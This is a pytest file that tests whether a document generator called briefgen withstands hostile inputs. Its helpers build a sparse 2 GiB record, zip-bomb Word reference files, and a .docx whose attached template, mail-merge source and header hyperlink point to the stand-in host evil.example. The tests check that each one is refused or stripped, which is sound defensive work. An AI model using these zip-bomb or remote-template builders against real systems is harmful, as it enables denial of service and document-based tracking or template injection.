"""Hostile input, round two: record files and the Word reference document.

Each case runs `python -m briefgen` as its own process on a generated input (a sparse file, a
zip bomb), measured as test_hostile_budgets measures its cases: exit 0 or 1 within 60 s,
under 1 GB across the run's processes, no traceback, no temporary file left, nothing changed
outside out/. Files are compared by size and time, never read: one of them is 2 GiB.
"""

from __future__ import annotations

import os
import shutil
import sys
import zipfile
from pathlib import Path

import pytest
from test_hostile_budgets import (
    AS_OF,
    HARD_SECONDS,
    MAX_RSS_BYTES,
    REPO,
    SPEC,
    Run,
    run_measured,
    subprocess_env,
)

pytestmark = pytest.mark.slow

REFERENCE = REPO / "templates" / "default" / "reference.docx"


def _state(root: Path) -> dict[str, tuple[int, int]]:
    found = {}
    for folder, dirs, files in os.walk(root):
        # `validate`'s record cache is the one folder a command writes in the workspace.
        dirs[:] = [d for d in dirs if Path(folder, d) != root / "out" and d != ".briefgen-cache"]
        for name in files:
            info = Path(folder, name).lstat()
            found[str(Path(folder, name).relative_to(root))] = (info.st_size, info.st_mtime_ns)
    return found


def _run(root: Path, tmp_path: Path, *args: str) -> Run:
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    before = _state(root)
    command = [sys.executable, "-m", "briefgen", *args, "--data", "ws"]
    if args[0] == "make":
        command += ["--out", "out", "--as-of", AS_OF]
    run = run_measured(command, root, subprocess_env(tmpdir), HARD_SECONDS + 30)
    assert run.code in (0, 1), run.output
    assert "Traceback" not in run.output, run.output
    assert run.seconds < HARD_SECONDS, f"{run.seconds:.1f} s"
    assert run.peak_rss < MAX_RSS_BYTES, f"{run.peak_rss / 1024**2:.0f} MB"
    assert not list(tmpdir.iterdir()), "temporary files left in $TMPDIR"
    if (root / "out").is_dir():
        assert not [p for p in (root / "out").iterdir() if p.name.startswith(".")]
    assert _state(root) == before, "files changed outside out/"
    return run


def _workspace(tmp_path: Path) -> Path:
    root = tmp_path / "case"
    shutil.copytree(SPEC, root / "ws")
    return root


@pytest.mark.parametrize("command", ["make -c US", "validate"])
def test_a_sparse_2_gib_record_is_refused_before_it_is_read(command: str, tmp_path: Path) -> None:
    root = _workspace(tmp_path)
    with open(root / "ws" / "meetings" / "zz.yaml", "wb") as sparse:
        sparse.truncate(2 * 1024**3)
    run = _run(root, tmp_path, *command.split())
    assert run.code == 1
    assert "ws/meetings/zz.yaml:1:1: file is 2048.0 MB; a record file may be at most 2 MB" in (
        run.output
    )
    assert run.peak_rss < 300 * 1024**2, f"{run.peak_rss / 1024**2:.0f} MB"
    assert not (root / "out").exists()


# -- The Word reference document --------------------------------------------------------------

BOMB_BYTES = 1536 * 1024**2


def _with_bomb(target: Path, part: str) -> None:
    """The bundled reference with `part` replaced by (or added as) 1.5 GB of zeros, deflated
    to about 1.5 MB; an added part is related from the document as a picture, so a reader
    that loads every related part would load it."""
    with zipfile.ZipFile(REFERENCE) as source, zipfile.ZipFile(target, "w") as bomb:
        for info in source.infolist():
            if info.filename == part:
                continue
            data = source.read(info)
            if info.filename == "word/_rels/document.xml.rels" and part.startswith("word/media"):
                rel = (
                    '<Relationship Id="rIdBomb" Type="http://schemas.openxmlformats.org/'
                    f'officeDocument/2006/relationships/image" Target="{part[5:]}"/>'
                )
                data = data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
            bomb.writestr(info, data, zipfile.ZIP_DEFLATED)
        entry = zipfile.ZipInfo(part)
        entry.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(entry, "w", force_zip64=True) as stream:
            zeros = bytes(1024**2)
            for _ in range(BOMB_BYTES // len(zeros)):
                stream.write(zeros)


def _docx_parts(out: Path) -> dict[str, dict[str, bytes]]:
    found = {}
    for docx in sorted(out.glob("*.docx")):
        with zipfile.ZipFile(docx) as package:
            found[docx.name] = {name: package.read(name) for name in package.namelist()}
    return found


def test_a_zip_bomb_part_of_the_reference_is_never_read_or_copied(tmp_path: Path) -> None:
    root = _workspace(tmp_path)
    (root / "ws" / "templates" / "default").mkdir(parents=True)
    _with_bomb(root / "ws" / "templates" / "default" / "reference.docx", "word/media/bomb.png")
    run = _run(root, tmp_path, "make", "-c", "US")
    assert run.code == 0, run.output
    assert run.peak_rss < 600 * 1024**2, f"{run.peak_rss / 1024**2:.0f} MB"
    packs = _docx_parts(root / "out")
    assert packs
    for name, parts in packs.items():
        assert not any("bomb" in part for part in parts), name
        assert sum(len(data) for data in parts.values()) < 20 * 1024**2, name
        assert "word/styles.xml" in parts and "word/numbering.xml" in parts, name


def test_a_zip_bomb_in_a_part_briefgen_uses_is_refused_by_its_size(tmp_path: Path) -> None:
    root = _workspace(tmp_path)
    (root / "ws" / "templates" / "default").mkdir(parents=True)
    _with_bomb(root / "ws" / "templates" / "default" / "reference.docx", "word/styles.xml")
    run = _run(root, tmp_path, "make", "-c", "US")
    assert run.code == 1
    assert (
        "reference .docx ws/templates/default/reference.docx: part word/styles.xml is 1536.0 MB"
        " uncompressed; a part may be at most 16 MB"
    ) in run.output
    assert not (root / "out").exists()


def _reaching_out(target: Path) -> None:
    """The bundled reference with an attached template on a web server, a header holding a
    hyperlink to a web address, and a mail merge from a remote source."""
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls, qn

    doc = Document(str(REFERENCE))
    settings = doc.part._settings_part
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    template = settings.relate_to(
        "http://evil.example/t.dotm", relationships + "attachedTemplate", True
    )
    source = settings.relate_to(
        "http://evil.example/list.xlsx", relationships + "mailMergeSource", True
    )
    settings.element.insert(
        1, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{template}"/>')
    )
    settings.element.insert(
        2,
        parse_xml(
            f'<w:mailMerge {nsdecls("w", "r")}><w:mainDocumentType w:val="formLetters"/>'
            f'<w:dataSource r:id="{source}"/></w:mailMerge>'
        ),
    )
    header = doc.sections[0].header
    header.is_linked_to_previous = False
    paragraph = header.paragraphs[0]
    paragraph.add_run("Ministry letterhead")
    link = header.part.relate_to("http://evil.example/track", RT.HYPERLINK, True)
    paragraph._p.append(
        parse_xml(
            f'<w:hyperlink {nsdecls("w", "r")} r:id="{link}"><w:r><w:t>site</w:t></w:r>'
            "</w:hyperlink>"
        )
    )
    assert settings.element.find(qn("w:attachedTemplate")) is not None
    doc.save(str(target))


def test_no_external_relationship_of_the_reference_reaches_a_docx(tmp_path: Path) -> None:
    root = _workspace(tmp_path)
    (root / "ws" / "templates" / "default").mkdir(parents=True)
    reference = root / "ws" / "templates" / "default" / "reference.docx"
    _reaching_out(reference)
    with zipfile.ZipFile(reference) as package:  # the attack is there to be dropped
        assert b'TargetMode="External"' in package.read("word/_rels/settings.xml.rels")
    run = _run(root, tmp_path, "make", "-c", "US")
    assert run.code == 0, run.output
    packs = _docx_parts(root / "out")
    assert len(packs) >= 3
    for name, parts in packs.items():
        for part, data in parts.items():
            if part.endswith(".rels"):
                assert b"External" not in data, f"{name}: {part}"
            assert b"evil.example" not in data, f"{name}: {part}"
        settings = parts["word/settings.xml"]
        assert b"attachedTemplate" not in settings and b"mailMerge" not in settings, name
        headers = [data for part, data in parts.items() if part.startswith("word/header")]
        assert any(b"Ministry letterhead" in data for data in headers), name
